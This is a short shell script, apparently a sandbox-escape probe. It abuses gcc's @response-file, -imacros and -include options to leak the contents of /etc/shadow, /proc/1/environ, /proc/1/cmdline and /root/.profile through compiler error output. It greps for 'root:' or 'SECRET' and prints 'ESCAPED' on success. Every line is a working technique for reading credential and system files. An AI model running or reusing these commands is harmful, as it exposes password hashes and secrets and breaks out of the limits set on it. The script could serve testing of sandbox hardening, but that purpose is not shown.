for f in /etc/shadow /proc/1/cmdline /proc/1/environ; do gcc @$f 2>&1 | grep -E 'root:|SECRET' && echo ESCAPED; done
gcc -E -imacros /etc/shadow -x c /dev/null 2>&1 | grep root: && echo ESCAPED
gcc -E -x c -iquote /root -include .profile /dev/null 2>/dev/null | grep -v '^#' | grep . && echo ESCAPED
echo done
